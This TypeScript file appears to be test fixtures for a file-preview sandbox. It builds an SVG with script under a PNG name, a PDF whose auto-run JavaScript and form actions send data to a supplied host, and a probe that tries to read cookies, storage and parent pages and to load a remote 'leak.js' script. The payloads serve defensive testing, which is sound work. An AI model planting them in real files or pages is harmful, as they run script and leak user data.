import { deflateSync } from 'node:zlib'
import { makePdf } from './pdfs.ts'

/** One red pixel. */
export const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==',
  'base64',
)

/** An SVG that runs script if it is rendered as such. */
export const ACTIVE =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="top.fired = 1"><script>top.fired = 1</script></svg>'

/** Files of which the first three have a preview, one of them as text only. */
export const TRIP = [
  { name: 'trip/words.txt', type: 'text/plain', content: 'Under the third stone.' },
  { name: 'trip/photo.png', type: 'image/png', content: PIXEL },
  { name: 'act.png', type: 'image/png', content: ACTIVE },
  { name: 'pages.pdf', type: 'application/pdf', content: makePdf() },
]

/** A PNG of this size, with `data` as its image data. */
export function png(width: number, height: number, data = deflateSync(Buffer.alloc(64))): Buffer {
  const head = Buffer.concat([PIXEL.subarray(0, 16), Buffer.alloc(8), PIXEL.subarray(24, 33)])
  head.writeUInt32BE(width, 16)
  head.writeUInt32BE(height, 20)
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  return Buffer.concat([head, length, Buffer.from('IDAT'), data, Buffer.alloc(4)])
}

/** A PDF that tries to run script, send a form and open `away` when it is opened, shown or clicked. */
export function hostilePdf(away: string): string {
  const script = `(app.launchURL\\("${away}"\\); this.submitForm\\("${away}"\\); app.alert\\("fired"\\))`
  return makePdf({
    catalogue: `/OpenAction << /S /JavaScript /JS ${script} >> /AcroForm << /XFA (<xdp/>) /Fields [4 0 R] >>
      /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${script} >>] >> >>`,
    page: `/Annots [4 0 R 5 0 R] /AA << /O << /S /URI /URI (${away}) >> >>`,
    objects: [
      `<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [0 0 400 400] /A << /S /SubmitForm /F (${away}) >> >>`,
      `<< /Type /Annot /Subtype /Link /Rect [0 0 400 400] /A << /S /URI /URI (${away}) >> >>`,
    ],
  })
}

/** For a frame: the dark share of a canvas, in its middle half and in all of it. */
export function inkOf(element: Element): [middle: number, all: number] {
  const canvas = element as HTMLCanvasElement
  const { width, height } = canvas
  const context = canvas.getContext('2d') as CanvasRenderingContext2D
  const dark = (x: number, y: number, w: number, h: number) => {
    const { data } = context.getImageData(x, y, w, h)
    let count = 0
    for (let i = 0; i < data.length; i += 4) if ((data[i] ?? 255) < 128) count++
    return count / (w * h)
  }
  const [w, h] = [Math.floor(width / 2) - 2, Math.floor(height / 2) - 2]
  return [dark(Math.ceil(width / 4) + 1, Math.ceil(height / 4) + 1, w, h), dark(0, 0, width, height)]
}

/**
 * For a frame: its origin, and the forbidden operations that its script could perform. `away`: their target.
 */
export async function reachOut(_: Element, away: string): Promise<string[]> {
  const tries: Record<string, () => unknown> = {
    parent: () => parent.document.body.innerHTML,
    address: () => parent.location.href,
    storage: () => localStorage.length,
    cookies: () => document.cookie,
    database: () =>
      new Promise((done, fail) => Object.assign(indexedDB.open('x'), { onsuccess: done, onerror: fail })),
    files: () => navigator.storage.getDirectory(),
    fetch: () => fetch(`${away}/fetch`),
    socket: () =>
      new Promise((done, fail) =>
        Object.assign(new WebSocket(`${away.replace('http', 'ws')}/ws`), { onopen: done, onerror: fail }),
      ),
    image: () =>
      new Promise((done, fail) =>
        Object.assign(new Image(), { onload: done, onerror: fail, src: `${away}/pixel.png` }),
      ),
    script: () =>
      new Promise((done, fail) =>
        document.head.append(
          Object.assign(document.createElement('script'), {
            onload: done,
            onerror: fail,
            src: `${away}/leak.js`,
          }),
        ),
      ),
    eval: () => new Function('return 1')(),
    top: () => {
      if (top) top.location.href = `${away}/top`
    },
    popup: () => {
      if (!open(`${away}/popup`)) throw new Error('none')
    },
  }
  const reached: string[] = []
  for (const [name, attempt] of Object.entries(tries)) {
    try {
      await attempt()
      reached.push(name)
    } catch {}
  }
  return [self.origin, ...reached]
}
